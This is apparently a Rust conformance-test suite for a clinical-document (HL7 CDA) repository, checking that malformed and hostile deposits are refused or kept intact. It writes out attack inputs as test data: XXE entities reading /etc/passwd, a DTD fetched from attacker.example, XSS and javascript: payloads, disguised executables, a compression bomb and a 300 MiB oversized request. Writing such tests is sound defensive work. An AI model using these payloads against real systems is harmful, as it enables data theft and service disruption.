//! Rows CDA-01 to CDA-23, and those of CDA-33 to CDA-60 that a deposit refuses or must keep as it is.

use crate::case::{Case, Check, World, case, says, status, xds};
use crate::common::http::exchange_stream;
use crate::common::lot::{ALICE, AUTHOR, BINARY, REFERENCE};
use crate::common::{Answer, Document};
use serde_json::json;
use std::io::Write as _;
use std::net::TcpStream;
use std::time::Duration;

const CONTENT: &str = "InvalidDocumentContent";
const METADATA: &str = "XDSRepositoryMetadataError";
const PATIENT: &str = "XDSPatientIdDoesNotMatch";

/// Deposits a synthesis made wrong by `edit`.
fn synthese(edit: impl Fn(Document) -> Document + 'static) -> impl Fn(&World) -> Answer {
    move |w| w.publish(&edit(w.synthese()))
}

/// Deposits an imaging report whose body was replaced.
fn pdf(edit: impl Fn(Document) -> Document + 'static) -> impl Fn(&World) -> Answer {
    move |w| w.publish(&edit(w.pdf()))
}

/// A synthesis in which one piece of text is another.
fn edited(from: &'static str, to: &'static str) -> impl Fn(&World) -> Answer {
    synthese(move |document| document.edit(from, to))
}

/// The synthesis with that in a narrative block.
fn narrative(inside: &'static str) -> impl Fn(&World) -> Answer {
    synthese(move |document| document.narrative(inside))
}

fn refused(row: &'static str, send: impl Fn(&World) -> Answer + 'static, reason: &'static str) -> Case {
    case(row, send, xds(reason))
}

/// Taken, and given back byte for byte: what was sent is found again in the bundle that the closure made.
fn kept(row: &'static str, make: impl Fn(&World) -> Document + 'static) -> Case {
    let sent = std::rc::Rc::new(std::cell::RefCell::new(Vec::new()));
    let remembered = std::rc::Rc::clone(&sent);
    let same_bytes: Check = Box::new(move |w, answer| match w.stored_bytes(answer) == *remembered.borrow() {
        true => Ok(()),
        false => Err("the bytes given back are not those sent".to_owned()),
    });
    let send = move |w: &World| {
        let document = w.lure(&make(w));
        sent.borrow_mut().clone_from(&document.bytes);
        w.publish(&document)
    };
    case(row, send, status(200)).and(same_bytes).stores_one()
}

pub fn cases() -> Vec<Case> {
    [roots(), headers(), bodies(), narratives()].into_iter().flatten().collect()
}

fn roots() -> Vec<Case> {
    let bytes = |text: &'static str| synthese(move |document| document.bytes(text));
    let sheet = "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>";
    let entity = "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><ClinicalDocument";
    vec![
        refused("CDA-01", bytes("<html/>"), CONTENT),
        refused("CDA-01", bytes(sheet), CONTENT).variant("style sheet without document"),
        refused("CDA-02", edited(r#"xmlns="urn:hl7-org:v3""#, r#"xmlns="urn:hl7-org:v2""#), CONTENT),
        refused(
            "CDA-03",
            edited(
                "<ClinicalDocument",
                "<!DOCTYPE x SYSTEM 'http://attacker.example/x.dtd'><ClinicalDocument",
            ),
            CONTENT,
        ),
        refused(
            "CDA-04",
            synthese(move |d| d.edit("<ClinicalDocument", entity).edit("Migraine", "&x;")),
            CONTENT,
        ),
        kept("CDA-05", World::synthese),
        kept("CDA-06", |w| Document::auto_presentable(ALICE, w.number())),
        refused(
            "CDA-60",
            synthese(|document| {
                let text = String::from_utf8(document.bytes.clone()).unwrap();
                let text = format!("\u{feff}{text}").replace("UTF-8", "UTF-16");
                document.bytes(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
            }),
            CONTENT,
        )
        .and(says("UTF-8")),
    ]
}

fn headers() -> Vec<Case> {
    let effective = r#"<effectiveTime value="20240312094500+0100"/>"#;
    let alice_oid = r#"root="1.2.250.1.213.1.4.10""#;
    let confidentiality =
        r#"<confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25" displayName="Normal"/>"#;
    vec![
        refused(
            "CDA-07",
            synthese(|d| d.edit("<recordTarget>", "<!--").edit("</recordTarget>", "-->")),
            CONTENT,
        ),
        refused("CDA-08", edited("</recordTarget>", "</recordTarget><recordTarget/>"), CONTENT),
        refused("CDA-09", synthese(|d| d.edit(ALICE.ins, "270019935110259")), PATIENT),
        refused("CDA-10", edited("19700115", "19700116"), PATIENT),
        refused(
            "CDA-11",
            edited(r#"administrativeGenderCode code="F""#, r#"administrativeGenderCode code="M""#),
            PATIENT,
        ),
        refused("CDA-12", edited(alice_oid, r#"root="1.2.250.1.213.1.4.8""#), "XDSUnknownPatientId"),
        refused(
            "CDA-13",
            |w| {
                let other = json!(format!("urn:oid:1.2.250.1.999.6.{}", w.number()));
                w.send_lot(&w.lot().set(REFERENCE, "/masterIdentifier/value", other))
            },
            METADATA,
        ),
        refused("CDA-14", edited(effective, r#"<effectiveTime value="30260312"/>"#), METADATA),
        refused("CDA-15", edited(effective, r#"<effectiveTime value="18000101"/>"#), METADATA),
        refused(
            "CDA-16",
            |w| w.send_lot(&w.lot().set(REFERENCE, "/type/coding/0/code", json!("11488-4"))),
            METADATA,
        ),
        refused("CDA-17", edited(confidentiality, ""), CONTENT),
        refused(
            "CDA-18",
            edited(r#"<languageCode code="fr-FR"/>"#, r#"<languageCode code="&lt;script>"/>"#),
            CONTENT,
        ),
        refused(
            "CDA-19",
            |w| {
                let set = w.number();
                let version = |v: u32| {
                    let document = w.synthese();
                    let number = document.unique_id.rsplit('.').next().unwrap().to_owned();
                    document
                        .edit(&format!("1.2.250.1.999.8.{number}"), &format!("1.2.250.1.999.8.{set}"))
                        .edit(r#"<versionNumber value="1"/>"#, &format!(r#"<versionNumber value="{v}"/>"#))
                };
                let second = w.publish(&version(2));
                assert_eq!(second.status, 200, "version 2: {}", second.brief());
                w.publish(&version(1))
            },
            METADATA,
        )
        // The newer version, published first.
        .stores_one(),
        kept("CDA-20", |w| {
            let parent = r#"<relatedDocument typeCode="RPLC"><parentDocument><id root="1.2.3.4"/></parentDocument></relatedDocument>"#;
            w.synthese().edit("<componentOf>", &format!("{parent}<componentOf>"))
        }),
        refused("CDA-21", synthese(|d| d.edit("<author>", "<!--").edit("</author>", "-->")), CONTENT)
            .variant("no author"),
        refused(
            "CDA-21",
            synthese(|d| {
                let id = format!(r#"<id root="1.2.250.1.71.4.2.1" extension="{AUTHOR}"/>"#);
                d.edit(
                    &format!("<assignedAuthor>\n      {id}"),
                    "<assignedAuthor>\n      <id nullFlavor=\"UNK\"/>",
                )
            }),
            CONTENT,
        )
        .variant("author without any id"),
        kept("CDA-23", |w| {
            let time = r#"<time value="20240312094500+0100"/>"#;
            w.synthese().edit(
                &format!("<legalAuthenticator>\n    {time}"),
                "<legalAuthenticator>\n    <time value=\"19600101\"/>",
            )
        }),
        kept("CDA-59", |w| {
            let extension = "<sdtc:deceasedInd xmlns:sdtc='urn:hl7-org:sdtc' value='false'/><birthTime";
            w.synthese().edit("<birthTime", extension)
        }),
    ]
}

fn bodies() -> Vec<Case> {
    let reference = |value: &str| {
        let text = format!(r#"<text mediaType="application/pdf"><reference value="{value}"/></text>"#);
        pdf(move |document| document.body(&text))
    };
    let binary = |media_type: &'static str, bytes: &'static [u8]| {
        pdf(move |document| document.binary_body(media_type, bytes))
    };
    let nested = format!("%PDF-1.4\n1 0 obj{}{}endobj\n%%EOF", "[".repeat(10_000), "]".repeat(10_000));
    vec![
        refused("CDA-39", reference("javascript:alert(1)"), CONTENT),
        refused("CDA-40", reference("http://attacker.example/"), CONTENT),
        refused("CDA-41", reference("file:///etc/passwd"), CONTENT),
        refused("CDA-42", binary("text/html", b"<script>alert(1)</script>"), CONTENT),
        refused("CDA-43", binary("application/pdf", b"MZ\x90\0"), CONTENT).variant("MZ"),
        refused("CDA-43", binary("application/pdf", b"\x7fELF\x02"), CONTENT).variant("ELF"),
        // Sent piece by piece as long as the server reads: no test machine should hold it whole.
        case("CDA-44", three_hundred_mebibytes, status(413)),
        kept("CDA-46", move |w| w.pdf().binary_body("application/pdf", nested.as_bytes())),
        // What a decoder would inflate a thousand times; here nothing is decoded, so the filter chain need not be real.
        kept("CDA-47", |w| {
            let filters = "/FlateDecode ".repeat(300);
            let bomb =
                format!("%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter[{filters}]>>stream\nendstream endobj\n%%EOF");
            w.pdf().binary_body("application/pdf", bomb.as_bytes())
        }),
        refused(
            "CDA-49",
            pdf(|document| {
                document.binary_body("application/pdf", &[&[b' '; 1020][..], b"%PDF-1.4"].concat())
            }),
            CONTENT,
        ),
        refused(
            "CDA-50",
            synthese(|document| {
                let open = "<component><section><text>x</text>".repeat(5000);
                let close = "</section></component>".repeat(5000);
                document.edit("<structuredBody>", &format!("<structuredBody>{open}{close}"))
            }),
            CONTENT,
        ),
    ]
}

fn three_hundred_mebibytes(w: &World) -> Answer {
    let mut lot = w.lot();
    lot.0["entry"][BINARY]["resource"]["data"] = json!("@");
    let text = lot.0.to_string();
    let (before, after) = text.split_once('@').unwrap();
    const PIECE: usize = 1 << 20;
    let pieces = 300;
    let length = before.len() + pieces * PIECE + after.len();
    let head = format!(
        "POST /fhir HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\nContent-Type: application/fhir+json\r\nContent-Length: {length}\r\n\r\n{before}",
        w.demo.authority, w.doctor
    );
    let after = after.to_owned();
    let send = move |stream: &mut TcpStream| {
        stream.write_all(head.as_bytes())?;
        for _ in 0..pieces {
            stream.write_all(&[b'A'; PIECE])?;
        }
        stream.write_all(after.as_bytes())
    };
    exchange_stream(&w.demo.authority, send, Duration::ZERO)
}

fn narratives() -> Vec<Case> {
    let math =
        "<math xmlns='http://www.w3.org/1998/Math/MathML'><annotation-xml encoding='text/html'/></math>";
    vec![
        refused("CDA-33", narrative("<script>alert(1)</script>"), CONTENT),
        refused("CDA-34", narrative("<iframe src='http://a/'/>"), CONTENT).variant("iframe"),
        refused("CDA-34", narrative("<object data='x'/>"), CONTENT).variant("object"),
        refused("CDA-34", narrative("<embed/>"), CONTENT).variant("embed"),
        refused("CDA-34", narrative("<form action='http://a/'/>"), CONTENT).variant("form"),
        refused("CDA-35", narrative("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"), CONTENT)
            .variant("onload"),
        refused("CDA-35", narrative("<set attributeName='href' to='javascript:alert(1)'/>"), CONTENT)
            .variant("set"),
        refused("CDA-36", narrative(math), CONTENT),
    ]
}
